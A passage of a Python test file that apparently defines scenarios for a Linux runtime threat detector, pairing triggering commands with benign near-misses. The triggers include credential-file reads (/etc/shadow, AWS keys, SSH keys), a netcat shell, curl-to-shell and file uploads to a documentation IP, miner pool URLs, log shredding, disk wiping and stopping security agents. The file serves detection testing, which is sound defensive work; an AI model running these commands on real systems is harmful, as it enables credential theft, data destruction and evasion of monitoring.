        "Execution:Runtime/NewLibraryLoaded",
        f"{LIBRARIES}cp /lib/*-linux-gnu/libm.so.6 libodd.so; {LOAD}",
        f"{MEMORY_FOLDER}cp /lib/*-linux-gnu/libm.so.6 libodd.so; {LOAD}",
        {"evidence.rule": "host_library", "context.libraryPath": "/usr/local/lib/libodd.so"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "library-of-a-setuid-program",
        "Execution:Runtime/NewLibraryLoaded",
        f"{OF_SU}{MEMORY_FOLDER}cp $pam copy; mount --bind copy $pam; {AS_USER}",
        f"{OF_SU}mount --bind $pam $pam; {AS_USER}",
        {"evidence.rule": "planted_library", "process.euid": 0, "process.userId": 65534},
        severity=INFORMATIONAL,
    ),
]

SYSTEM: Final = [
    Scene(
        "io-uring-open",
        "DefenseEvasion:Runtime/IoUringUsage",
        _python(RING + "ask(18)"),
        _python(RING + "ask(0)"),
        {"context.filePath": "/etc/hostname"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "ebpf-program",
        "DefenseEvasion:Runtime/EbpfProgramLoaded",
        _python(LOADER + "assert bpf(5, load) > 0"),
        # There is no such type of program, so the kernel refuses it.
        _python(LOADER + "load[:4] = struct.pack('<I', 999); assert bpf(5, load) < 0"),
        {"process.name": ...},
        severity=INFORMATIONAL,
    ),
]

FILES: Final = [
    Scene(
        "persistence",
        "Persistence:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /root; mkdir /root/.ssh; echo key > /root/.ssh/authorized_keys",
        "mount -t tmpfs none /root; mkdir /root/.ssh; echo key > /root/.ssh/known_hosts",
        {"context.filePath": "/root/.ssh/authorized_keys", "context.fileOperation": "Write"},
        severity="medium",
    ),
    Scene(
        "persistence-rename",
        "Persistence:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /etc; echo x > /etc/new; mv /etc/new /etc/ld.so.preload",
        "mount -t tmpfs none /etc; echo x > /etc/new; mv /etc/new /etc/motd",
        {"context.filePath": "/etc/ld.so.preload", "context.fileOperation": "Rename"},
        severity="medium",
    ),
    Scene(
        "privilege",
        "PrivilegeEscalation:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /etc; echo x > /etc/sudoers; rm /etc/sudoers",
        "cat /etc/pam.d/su",
        {"context.filePath": "/etc/sudoers"},
        severity="medium",
    ),
    Scene(
        "evasion",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /root; echo ls > /root/.bash_history; rm /root/.bash_history",
        "mount -t tmpfs none /root; echo ls >> /root/.bash_history; cat /root/.bash_history",
        {
            "context.filePath": "/root/.bash_history",
            "context.fileOperation": "Delete",
            "context.shellHistoryFilePath": "/root/.bash_history",
        },
        severity="medium",
    ),
    Scene(
        "secret-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        "cat /etc/shadow > /dev/null",
        "passwd --status root; cat /etc/passwd > /dev/null",
        {"context.filePath": "/etc/shadow"},
        severity="medium",
    ),
    Scene(
        "secret-linked",
        "CredentialAccess:Runtime/SensitiveFileLinked",
        "ln -s /etc/shadow harmless",
        "ln -s /etc/hostname harmless",
        {"context.filePath": "/etc/shadow"},
        severity="medium",
    ),
    Scene(
        "secret-linked-from-near",
        "CredentialAccess:Runtime/SensitiveFileLinked",
        MEMORY_FOLDER + "ln -s ../etc/shadow harmless",
        MEMORY_FOLDER + "mkdir below; ln -s ../etc/shadow below/harmless",
        {"context.filePath": "/etc/shadow"},
        severity="medium",
    ),
]

COMMANDS: Final = [
    Scene(
        "download-to-shell",
        f"Execution:{SUSPICIOUS}",
        "bash -c 'false && curl -s http://192.0.2.1/x | sh'",
        "bash -c 'false && curl -s http://192.0.2.1/x | cat'",
        {"context.commandLineExample": "curl URL | sh"},
        severity="high",
    ),
    _command("decode", "Execution", "bash", "-c 'base64 -d x | sh'", "-c 'base64 -d x | cat'"),
    _command("find-setuid", "PrivilegeEscalation", "find", "/ -perm -4000", "/ -perm 755"),
    _command("make-setuid", "PrivilegeEscalation", "chmod", "u+s x", "u+x x"),
    _command("enter-host", "PrivilegeEscalation", "nsenter", "-t 1 -a sh", "-t 77 -a sh"),
    _command(
        "privileged-container", "PrivilegeEscalation", "docker", "run --privileged x", "run x"
    ),
    _command("firewall-off", "DefenseEvasion", "iptables", "-F", "-L", severity="high"),
    _command(
        "guard-off", "DefenseEvasion", "systemctl", "stop auditd", "status auditd", severity="high"
    ),
    *(
        _command(f"guard-off-by-{name}", "DefenseEvasion", program, off, near, severity="high")
        for name, program, off, near in (
            ("mask", "systemctl", "mask --now nodeagent.service", "unmask nodeagent.service"),
            ("disable", "systemctl", "disable nodeagent", "is-enabled nodeagent"),
            ("kill", "systemctl", "kill -s KILL nodeagent", "reload nodeagent"),
            ("freeze", "systemctl", "freeze nodeagent", "thaw nodeagent"),
            ("limits", "systemctl", "set-property nodeagent CPUQuota=1%", "show nodeagent"),
            ("service", "service", "nodeagent stop", "nodeagent status"),
            ("name", "pkill", "-9 nodeagent", "-HUP nodeagent"),
        )
    ),
    _command("crontab-removed", "DefenseEvasion", "crontab", "-r", "-l"),
    _command("logs-cleared", "DefenseEvasion", "shred", "/var/log/auth.log", "x"),
    _command(
        "journal-emptied", "DefenseEvasion", "journalctl", "--vacuum-time=1s", "--vacuum-size=1M"
    ),
    _command("service-added", "Persistence", "systemctl", "enable x.service", "is-enabled x"),
    _command("crontab-added", "Persistence", "crontab", "/tmp/x", "-l"),
    _command("user-added", "Persistence", "useradd", "x", ""),
    Scene(
        "credential-search",
        "CredentialAccess:Runtime/CredentialsSearched",
        "grep -r 'BEGIN RSA PRIVATE' . ; true",
        "grep -r 'BEGIN' . ; true",
        severity="medium",
    ),
    Scene(
        "recon-adds-up",
        f"Discovery:{SUSPICIOUS}",
        f"{_tool('whoami', '')}; {_tool('ss', '-tlnp')}; {_tool('aws', 'sts get-caller-identity')};"
        f" {_tool('kubectl', 'auth can-i --list')}",
        f"{_tool('whoami', '')}; {_tool('ss', '-tlnp')}",
        {"evidence.signals": ...},
        severity="low",
    ),
    Scene(
        "scanner",
        "Execution:Runtime/SuspiciousTool",
        _tool("nmap", "127.0.0.1"),
        _tool("mmap", "127.0.0.1"),
        {"context.toolName": "nmap", "context.toolCategory": "Network Scanner"},
        severity="low",
    ),
    Scene(
        "offensive-tool",
        "Execution:Runtime/SuspiciousTool",
        _tool("linpeas.sh", ""),
        _tool("lint.sh", ""),
        {"context.toolName": "linpeas.sh", "context.toolCategory": "Pentest Tool"},
        severity="high",
    ),
    Scene(
        "netcat-shell",
        "Execution:Runtime/SuspiciousTool",
        _tool("nc", "-l -e /bin/sh"),
        _tool("nc", "-l 1234"),
        {"context.toolCategory": "Backdoor Tool"},
        severity="high",
    ),
    Scene(
        "miner",
        "Impact:Runtime/CryptoMinerExecuted",
        _tool("harmless", "--url stratum+tcp://192.0.2.1:3333"),
        _tool("harmless", "--url http://192.0.2.1:3333"),
        severity="high",
    ),
    Scene(
        "miner-behind-others",
        "Impact:Runtime/CryptoMinerExecuted",
        # Not one word, since the shell that plays this would be told by itself.
        "pool=stratum+tc''p://192.0.2.1:3333; nohup sh -c \": --url $pool\"",
        "pool=stratum+tc''p://; grep -rF $pool .; echo x | less -p $pool; cat $pool;"
        ' sh -c "cd .; grep -rF $pool . | sed s:$pool::"',
        severity="high",
    ),
    Scene(
        "miner-behind-a-reader",
        "Impact:Runtime/CryptoMinerExecuted",
        "pool=stratum+tc''p://192.0.2.1:3333; sh -c \"cat x | : --url $pool\"",
        "pool=stratum+tc''p://192.0.2.1:3333; sh -c \"cat x | grep -F -- $pool\"",
        severity="high",
    ),
]

NETWORK: Final = [
    Scene(
        "port-scan",
        "Discovery:Runtime/PortScan",
        _python("for p in range(1, 26): socket.socket().connect_ex(('127.0.0.1', p))"),
        _python("for p in range(1, 6): socket.socket().connect_ex(('127.0.0.1', p))"),
        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1"},
        severity="medium",
    ),
]

SIGNALS: Final = [
    Scene(
        "shell-of-a-server",
        "Execution:Runtime/SuspiciousShellCreated",
        _python(
            LISTEN + "p = subprocess.Popen(['bash', '-i'], stdin=subprocess.PIPE)\n"
            "p.communicate(b'exit\\n')"
        ),
        _python("p = subprocess.Popen(['bash', '-i'], stdin=subprocess.PIPE)\np.communicate(b'')"),
        severity=INFORMATIONAL,
    ),
    Scene(
        "anti-debugging",
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        _python(LIBC + "libc.ptrace(0, 0, 0, 0)"),
        _python(LIBC + "libc.ptrace(17, 0, 0, 0)"),
        severity=INFORMATIONAL,
    ),
    Scene(
        "temporary-file",
        "Execution:Runtime/TemporaryFileExecuted",
        "cp /bin/true odd; ./odd",
        f"{MEMORY_FOLDER}cp /bin/true odd; ./odd",
        {"context.threatFilePath": "{cwd}/odd"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "temporary-script",
        "Execution:Runtime/TemporaryFileExecuted",
        "printf '#!/bin/sh\\n' > odd; chmod 755 odd; ./odd",
        f"{MEMORY_FOLDER}printf '#!/bin/sh\\n' > odd; chmod 755 odd; ./odd",
        {"context.threatFilePath": "{cwd}/odd"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "remote-copy",
        "Exfiltration:Runtime/RemoteFileCopy",
        _tool("scp", "x host.test:/tmp"),
        _tool("scp", "host.test:/tmp/x ."),
        severity=INFORMATIONAL,
    ),
    Scene(
        "namespace-entered",
        "PrivilegeEscalation:Runtime/NamespaceEntered",
        "nsenter --net=/proc/self/ns/net true",
        "unshare --net true",
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "metadata-service",
        "CredentialAccess:Runtime/MetadataServiceContacted",
        _python("s = socket.socket(); s.setblocking(False); s.connect_ex(('169.254.169.254', 80))"),
        _python("s = socket.socket(); s.setblocking(False); s.connect_ex(('169.254.1.1', 80))"),
        contained=True,
        severity=INFORMATIONAL,
    ),
]

SEQUENCES: Final = [
    Scene(
        "attack-sequence",
        "AttackSequence:Runtime/CompromisedHost",
        f"cat /etc/shadow; {_tool('shred', '/var/log/auth.log')}; {_tool('find', '/ -perm -4000')}",
        # As heavy, but of two tactics.
        f"{_tool('shred', '/var/log/auth.log')}; {_tool('find', '/ -perm -4000')};"
        f" {_tool('chmod', 'u+s x')}",
        {"evidence.signals": ...},
        severity="critical",
        made_of=frozenset(
            {
                "CredentialAccess:Runtime/SensitiveFileRead",
                f"DefenseEvasion:{SUSPICIOUS}",
                f"PrivilegeEscalation:{SUSPICIOUS}",
            }
        ),
    ),
]

GAPS: Final = [
    Scene(
        "shell-of-a-system-user",
        "Execution:Runtime/SuspiciousShellCreated",
        "setpriv --reuid 33 --clear-groups sh -i < /dev/null",
        "setpriv --reuid 33 --clear-groups sh -c :;"
        " setpriv --reuid 1000 --clear-groups sh -i < /dev/null",
        {"evidence.rule": "system_user_shell"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "user-namespace",
        "PrivilegeEscalation:Runtime/NamespaceEntered",
        "unshare --user true",
        "unshare --uts true",
        {"context.flags": ["CLONE_NEWUSER"]},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "kernel-files-mounted",
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        _python(LIBC + "libc.mount(b'x', b'/mnt', b'debugfs', 0, None)"),
        _python(LIBC + "libc.mount(b'x', b'/mnt', b'ramfs', 0, None)"),
        {"context.fileSystemType": "debugfs", "context.mountTarget": "/mnt"},
        contained=True,
        severity="medium",
    ),
    Scene(
        "process-hidden",
        "DefenseEvasion:Runtime/ProcessHidden",
        "mkdir none; mount --bind none /proc/1",
        "mkdir none; mount --bind none /mnt; mount -t proc proc /proc",
        {"context.mountTarget": "/proc/1"},
        severity="high",
    ),
    Scene(
        "hidden-file",
        f"DefenseEvasion:{SUSPICIOUS}",
        f"{MEMORY_FOLDER}cp /bin/true .odd; ./.odd",
        f"{MEMORY_FOLDER}mkdir .config; cp /bin/true .config/odd; .config/odd",
        {"context.threatFilePath": "/mnt/.odd"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "kernel-protection",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        ": >> /proc/sys/kernel/randomize_va_space",
        "cat /proc/sys/kernel/randomize_va_space; : >> /proc/sys/kernel/domainname",
        {"context.filePath": "/proc/sys/kernel/randomize_va_space"},
        severity="medium",
    ),
    Scene(
        "kernel-commanded",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        # Opened, and nothing asked for.
        ": >> /proc/sysrq-trigger",
        "[ -e /proc/sysrq-trigger ]",
        {"context.filePath": "/proc/sysrq-trigger"},
        severity="medium",
    ),
    Scene(
        "debug-file-written",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        "mkdir tree; mount --bind tree /sys/kernel/debug; : > /sys/kernel/debug/fail",
        "mkdir -p tree/tracing; mount --bind tree /sys/kernel/debug; ls /sys/kernel/debug;"
        " : > /sys/kernel/debug/tracing/trace",
        {"evidence.rule": "sensitive_kernel", "context.filePath": "/sys/kernel/debug/fail"},
        severity="medium",
    ),
    Scene(
        "authority-added",
        "DefenseEvasion:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /usr/local/share; cd /usr/local/share; mkdir ca-certificates;"
        " echo x > ca-certificates/x.crt",
        "mount -t tmpfs none /usr/local/share; cd /usr/local/share; mkdir certificates;"
        " echo x > certificates/x.crt",
        {"context.filePath": "/usr/local/share/ca-certificates/x.crt"},
        severity="medium",
    ),
    Scene(
        "packages-changed",
        "Persistence:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /var/lib; mkdir /var/lib/dpkg; echo x > /var/lib/dpkg/status",
        "cat /var/lib/dpkg/status",
        {"evidence.rule": "sensitive_packages"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "binary-changed",
        "Persistence:Runtime/SensitiveFileModified",
        "mount -t tmpfs none /usr/local/sbin; cp /bin/true /usr/local/sbin/odd",
        "mount -t tmpfs none /usr/local/share; cp /bin/true /usr/local/share/odd",
        {"context.filePath": "/usr/local/sbin/odd"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "environment-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        "cat /proc/1/environ",
        "cat /proc/self/environ /proc/1/cmdline",
        {"context.filePath": "/proc/1/environ"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "environment-read-in-a-container",
        "CredentialAccess:Runtime/SensitiveFileRead",
        "sleep 5 & cat /proc/$!/environ; kill $!",
        "cat /proc/self/environ",
        {"evidence.rule": "environment_read"},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "token-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        _secret("/run", f"{ACCOUNT}/token"),
        _secret("/run", f"{ACCOUNT}/ca.crt"),
        {"context.filePath": f"{ACCOUNT}/token"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "cluster-key-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        _secret("/var/lib", f"{KUBELET}/x.pem"),
        _secret("/var/lib", f"{KUBELET}/x.crt"),
        {"context.filePath": f"{KUBELET}/x.pem"},
        severity="medium",
    ),
    _command("data-shredded", "Impact", "shred", "-u x", "--help"),
    _command("data-removed", "Impact", "rm", "-rf --no-preserve-root /", "-rf /var/lib/x /tmp/"),
    _command("disk-overwritten", "Impact", "dd", "if=x of=/dev/sda", "if=/dev/sda of=x"),
    _command("authority-trusted", "DefenseEvasion", "trust", "anchor x", "list"),
    Scene(
        "package-in-a-container",
        f"Execution:{SUSPICIOUS}",
        _tool("apt-get", "-y install x"),
        _tool("apt-get", "-s update"),
        {"context.commandLineExample": "apt-get install PACKAGE"},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "ssh-on-an-odd-port",
        "CommandAndControl:Runtime/UnusualPort",
        "ssh -o BatchMode=yes -p 1 127.0.0.1",
        "ssh -o BatchMode=yes -p 22 127.0.0.9",
        {"action.networkConnectionAction.remotePortDetails.port": 1},
        severity=INFORMATIONAL,
    ),
    Scene(
        "kubernetes-contacted",
        "Discovery:Runtime/KubernetesApiContacted",
        _python("socket.socket().connect_ex(('127.0.0.1', 6443))"),
        _python("socket.socket().connect_ex(('127.0.0.1', 443))"),
        {"action.networkConnectionAction.remotePortDetails.port": 6443},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "kubernetes-asked-for",
        "Discovery:Runtime/KubernetesApiContacted",
        _python(ASKING + "ask(b'kubernetes', b'default', b'svc')"),
        _python(ASKING + "ask(b'web', b'default', b'svc')"),
        {"action.dnsRequestAction.domain": "kubernetes.default.svc"},
        contained=True,
        severity=INFORMATIONAL,
    ),
]

MAKE_CAPABLE: Final = (
    'os.setxattr("odd", "security.capability", struct.pack("<5I", 0x2000001, 1 << {bit}, 0, 0, 0))'
)
CAPABLE: Final = (
    f"{MEMORY_FOLDER}cp /usr/bin/true odd; python3 -c 'import os, struct; {MAKE_CAPABLE}';"
    " setpriv --reuid 65534 --clear-groups ./odd"
)
"""A program whose file has a capability."""
BECOME_USER: Final = LIBC + "libc.prctl(8, 1, 0, 0, 0); os.setresuid(65534, 65534, 65534)\n"
"""Without what it may do, but what it might do is left."""
TAKE: Final = (
    "asked = (ctypes.c_uint32 * 6)(1 << {bit}, 1 << {bit})\n"
    "libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), asked)"
)
KEEP_SETUID: Final = (
    "setpriv --reuid 65534 --clear-groups --inh-caps +setuid --ambient-caps +setuid"
)
RIGHTS: Final = [
    Scene(
        "root-by-a-capability",
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        f"{KEEP_SETUID} setpriv --reuid 0 true",
        _python("os.setresuid(65534, 65534, 0); os.seteuid(0)"),
        {"evidence.rule": "became_root"},
        severity="high",
    ),
    Scene(
        "capable-program",
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        CAPABLE.format(bit=19),
        # Like ping, it may send whatever packet it likes.
        CAPABLE.format(bit=13),
        {"context.threatFilePath": "/mnt/odd", "context.capabilities": ["CAP_SYS_PTRACE"]},
        severity=INFORMATIONAL,
    ),
    Scene(
        "capabilities-taken",
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        _python(BECOME_USER + TAKE.format(bit=2)),
        _python(BECOME_USER + TAKE.format(bit=13)),
        {"context.capabilities": ["CAP_DAC_READ_SEARCH"]},
        severity=INFORMATIONAL,
    ),
]

OWN_DPKG: Final = "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; "
"""What an image may call a package manager, where one belongs."""
OWN_ETC: Final = "mount -t tmpfs none /etc; mkdir /etc/profile.d; "
PACKAGED: Final = [
    Scene(
        "package-manager-of-an-image",
        "Persistence:Runtime/SensitiveFileModified",
        f"{OWN_DPKG}{OWN_ETC}/opt/dpkg -c 'echo x > /etc/profile.d/x.sh; true'",
        f"{OWN_DPKG}{OWN_ETC}/opt/dpkg -c 'ls /etc/profile.d; true'",
        {"evidence.rule": "packaged_change", "context.filePath": "/etc/profile.d/x.sh"},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "secret-read-by-a-package-manager-of-an-image",
        "CredentialAccess:Runtime/SensitiveFileRead",
        f"{OWN_DPKG}/opt/dpkg -c 'cat /etc/shadow; true'",
        f"{OWN_DPKG}/opt/dpkg -c 'cat /etc/passwd; true'",
        {"context.filePath": "/etc/shadow"},
        contained=True,
        severity="medium",
    ),
    Scene(
        "mount-by-a-runtime-of-an-image",
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        "mount -t tmpfs none /opt; cp /bin/mount /opt/runc; /opt/runc -t ext4 /dev/nowhere /mnt",
        "mount -t tmpfs none /opt; cp /bin/mount /opt/runc; /opt/runc -t ramfs none /mnt",
        {"process.executablePath": "/opt/runc"},
        contained=True,
        severity="medium",
    ),
]

OWN_HOME: Final = "mount -t tmpfs none /root; mkdir -p /root/.aws /root/.ssh; cd /root; "
SECRETS: Final = [
    Scene(
        "secret-linked-by-a-hard-link",
        "CredentialAccess:Runtime/SensitiveFileLinked",
        "mount -t tmpfs none /etc; : > /etc/shadow; ln /etc/shadow /etc/harmless",
        "mount -t tmpfs none /etc; : > /etc/shade; ln /etc/shade /etc/harmless",
        {"context.filePath": "/etc/shadow", "context.fileOperation": "Target"},
        severity="medium",
        made_of=frozenset({"Persistence:Runtime/SensitiveFileModified"}),
    ),
    *(
        Scene(
            f"secret-read-{name}",
            "CredentialAccess:Runtime/SensitiveFileRead",
            f"{OWN_HOME}: >> {path}; cat {path}",
            f"{OWN_HOME}: >> {near}; cat {near}",
            {"context.filePath": path, "evidence.rule": "sensitive_read"},
            severity="medium",
        )
        for name, path, near in (
            ("of-a-cloud", "/root/.aws/credentials", "/root/.aws/config"),
            ("for-ssh", "/root/.ssh/id_ed25519", "/root/.ssh/id_ed25519.pub"),
        )
    ),
    Scene(
        "memory-of-the-kernel-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        # Whether it may does not matter.
        "exec 3< /proc/kcore",
        "exec 3< /proc/kallsyms",
        {"context.filePath": "/proc/kcore"},
        severity="medium",
    ),
    Scene(
        "scheduler-read",
        "CredentialAccess:Runtime/SensitiveFileRead",
        "mkdir -p tree/sched; : > tree/sched/debug; mount --bind tree /sys/kernel/debug;"
        " cat /sys/kernel/debug/sched/debug",
        "mkdir -p tree/sched; : > tree/sched/features; mount --bind tree /sys/kernel/debug;"
        " cat /sys/kernel/debug/sched/features",
        {"evidence.rule": "scheduler_read"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "memory-read",
        "CredentialAccess:Runtime/ProcessMemoryRead",
        _python(
            LIBC + SLEEPER + "v = (ctypes.c_size_t * 2)(8, 1)\n"
            "libc.process_vm_readv(child.pid, v, 1, v, 1, 0); child.kill()"
        ),
        _python(
            LIBC + "v = (ctypes.c_size_t * 2)(8, 1)\n"
            "libc.process_vm_readv(os.getpid(), v, 1, v, 1, 0)"
        ),
        {"context.targetProcess.name": "sleep"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "memory-read-by-proc",
        "CredentialAccess:Runtime/ProcessMemoryRead",
        _python(SLEEPER + "open(f'/proc/{child.pid}/mem', 'rb').close(); child.kill()"),
        _python(SLEEPER + "open(f'/proc/{child.pid}/maps', 'rb').close(); child.kill()"),
        {"context.targetProcess.pid": ...},
        severity=INFORMATIONAL,
    ),
]

OWN_DNF: Final = (
    "mount -t tmpfs none {0}; printf '#!/bin/bash\\necho x > /etc/profile.d/x.sh\\n' > {0}/dnf;"
    f" chmod 755 {{0}}/dnf; {OWN_ETC}"
)
"""A script that calls itself a package manager."""
SCRIPTED: Final = [
    Scene(
        "package-manager-by-its-name-alone",
        "Persistence:Runtime/SensitiveFileModified",
        f"{OWN_DNF.format('/mnt')}/mnt/dnf",
        # It lies where only root can put it, and the kernel was asked to run it.
        f"{OWN_DNF.format('/opt')}/opt/dnf",
        {"context.filePath": "/etc/profile.d/x.sh"},
        severity="medium",
    ),
    Scene(
        "package-manager-as-an-argument",
        "Persistence:Runtime/SensitiveFileModified",
        f"{OWN_DNF.format('/opt')}bash /opt/dnf",
        f"{OWN_DNF.format('/opt')}PATH=/opt:$PATH; dnf",
        {"context.filePath": "/etc/profile.d/x.sh"},
        severity="medium",
        # It was written where programs are, which alone would be a signal.
        made_of=frozenset({"Execution:Runtime/NewBinaryExecuted"}),
    ),
    Scene(
        "copy-of-the-passwords",
        "CredentialAccess:Runtime/SensitiveFileRead",
        "mount -t tmpfs none /etc/cron.daily; cd /etc/cron.daily;"
        " printf '#!/bin/sh\\ncat /etc/shadow; true\\n' > copy; chmod 755 copy;"
        " /etc/cron.daily/copy",
        "mount -t tmpfs none /etc/cron.daily; cd /etc/cron.daily;"
        " printf '#!/bin/sh\\ncat /etc/shadow; true\\n' > passwd; chmod 755 passwd;"
        " /etc/cron.daily/passwd",
        {"context.filePath": "/etc/shadow"},
        severity="medium",
        made_of=frozenset(
            {
                "Persistence:Runtime/SensitiveFileModified",
                "Execution:Runtime/NewBinaryExecuted",
            }
        ),
    ),
    Scene(
        "passwords-read-by-a-tool-of-the-cloud",
        "CredentialAccess:Runtime/SensitiveFileRead",
        _placed("aws", "/bin/cat") + "/opt/aws /etc/shadow",
        "mount -t tmpfs none /root; mkdir /root/.aws; : > /root/.aws/credentials; "
        + _placed("aws", "/bin/cat")
        + "/opt/aws /root/.aws/credentials",
        {"context.filePath": "/etc/shadow", "process.executablePath": "/opt/aws"},
        severity="medium",
    ),
]

SSHD: Final = _placed("sshd", "/usr/bin/perl") + "/opt/sshd -MSocket -e '{}'"
"""Something in the place of a server that is expected to read secrets."""
SERVE: Final = "socket(S, PF_INET, SOCK_STREAM, 0); listen(S, 1);"
LATE: Final = [
    Scene(
        "secret-read-late",
        "CredentialAccess:Runtime/SensitiveFileRead",
        SSHD.format(SERVE + ' open(F, "/etc/shadow")'),
        SSHD.format('open(F, "/etc/shadow"); ' + SERVE),
        {"evidence.rule": "sensitive_read_late", "context.filePath": "/etc/shadow"},
        severity="medium",
    ),
    Scene(
        "secret-read-late-by-another-server",
        "CredentialAccess:Runtime/SensitiveFileRead",
        SSHD.replace("sshd", "dropbear").format(SERVE + ' open(F, "/etc/shadow")'),
        # Who logs in has a process of his own.
        SSHD.replace("sshd", "dropbear").format(SERVE + ' fork or open(F, "/etc/shadow")'),
        {"evidence.rule": "sensitive_read_late", "process.name": "dropbear"},
        severity="medium",
    ),
]

COPIES: Final = [
    Scene(
        f"sent-by-{program}",
        "Exfiltration:Runtime/RemoteFileCopy",
        _tool(program, sent),
        _tool(program, got),
        {"context.commandLineExample": ...},
        severity=INFORMATIONAL,
    )
    for program, sent, got in (
        ("curl", "-sT x http://192.0.2.1/", "-XPOST -d x=@ -o T http://192.0.2.1/"),
        ("wget", "--post-file=x http://192.0.2.1/", "--post-data=x http://192.0.2.1/"),
    )
]

MAP: Final = (
    LIBC + "libc.mmap.restype = ctypes.c_void_p\n"
    "at = ctypes.c_void_p(libc.mmap(None, 4096, {}, 0x22, -1, 0))\n"
    "assert not libc.mprotect(at, 4096, 5)"
)
"""Memory with a protection, which becomes executable."""
CODE: Final = [
    Scene(
        "written-code",
        "DefenseEvasion:Runtime/MemoryMadeExecutable",
        _python(MAP.format(3)),
        _python(MAP.format(1)),
        {"context.memoryRegions": ["anonymous"]},
        severity=INFORMATIONAL,
    ),
    Scene(
        "code-in-the-heap",
        "DefenseEvasion:Runtime/MemoryMadeExecutable",
        _python(
            LIBC + "libc.sbrk.restype = ctypes.c_void_p\n"
            "at = (libc.sbrk(8192) + 4095) // 4096 * 4096\n"
            "assert not libc.mprotect(ctypes.c_void_p(at), 4096, 5)"
        ),
        _python(
            LIBC + "libc.sbrk.restype = ctypes.c_void_p\n"
            "at = (libc.sbrk(8192) + 4095) // 4096 * 4096\n"
            "assert not libc.mprotect(ctypes.c_void_p(at), 4096, 1)"
        ),
        {"context.memoryRegions": ["heap"]},
        severity=INFORMATIONAL,
    ),
]

OWN_NODE: Final = (
    "mount -t tmpfs none {0}; cp /usr/bin/perl {0}/{1};"
    " {0}/{1} -e 'my $at = syscall(9, 0, 4096, 3, 0x22, -1, 0); syscall(10, $at, 4096, 5)'"
)
"""What compiles as it runs; something in its place."""
COMPILED: Final = [
    Scene(
        "written-code-by-a-false-compiler",
        "DefenseEvasion:Runtime/MemoryMadeExecutable",
        OWN_NODE.format("/mnt", "node"),
        OWN_NODE.format("/opt", "node"),
        {"process.executablePath": "/mnt/node"},
        severity=INFORMATIONAL,
    ),
]

NAMES: Final = [
    Scene(
        "named-like-the-kernel",
        "DefenseEvasion:Runtime/FalseProcessName",
        _python(LIBC + "libc.prctl(15, b'kworker/u8:2')"),
        _python(LIBC + "libc.prctl(15, b'worker/u8:2')"),
        {"context.claimedName": "kworker/u8:2"},
        severity="high",
    ),
    Scene(
        "started-like-the-kernel",
        "DefenseEvasion:Runtime/FalseProcessName",
        "bash -c 'exec -a [kworker/0:1-events] true'",
        "bash -c 'exec -a [worker/0:1-events] true'",
        {"context.claimedName": "[kworker/0:1-events]"},
        severity="high",
    ),
]

LISTENER: Final = (
    MEMORY_FOLDER
    + _placed("{0}", "/bin/bash")
    + 'echo "import socket; s = socket.socket(); s.listen()" > listen.py;'
    " /opt/{0} -c 'python3 listen.py; true'"
)
"""A program below something of that name waits for connections."""
IN_PACKAGE: Final = "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; "
UNEXPECTED: Final = [
    Scene(
        "listener-below-a-web-server",
        "CommandAndControl:Runtime/UnusualPort",
        LISTENER.format("nginx"),
        LISTENER.format("worker"),
        {"evidence.rule": "server_listener"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "port-of-a-node",
        "CommandAndControl:Runtime/UnusualPort",
        _python("socket.socket().connect_ex(('127.0.0.1', 31000))"),
        _python("socket.socket().connect_ex(('127.0.0.1', 29999))"),
        {"action.networkConnectionAction.remotePortDetails.port": 31000},
        contained=True,
        severity=INFORMATIONAL,
    ),
    Scene(
        "network-in-a-package",
        f"Execution:{SUSPICIOUS}",
        f"{IN_PACKAGE}/opt/dpkg -c 'curl -s http://127.0.0.1:1; true'",
        f"{IN_PACKAGE}curl -s http://127.0.0.1:1; /opt/dpkg -c 'true; true'",
        {"context.commandLineExample": "curl URL"},
        severity=INFORMATIONAL,
    ),
]

OWN_NPM: Final = (
    "mount -t tmpfs none /mnt; printf '#!/bin/sh\\ncurl -s http://127.0.0.1:1; true\\n' > /mnt/{0};"
    " chmod 755 /mnt/{0}; /mnt/{0} install"
)
PACKAGES_OF_LANGUAGES: Final = [
    Scene(
        "network-in-a-package-of-a-language",
        f"Execution:{SUSPICIOUS}",
        OWN_NPM.format("npm"),
        OWN_NPM.format("mpn"),
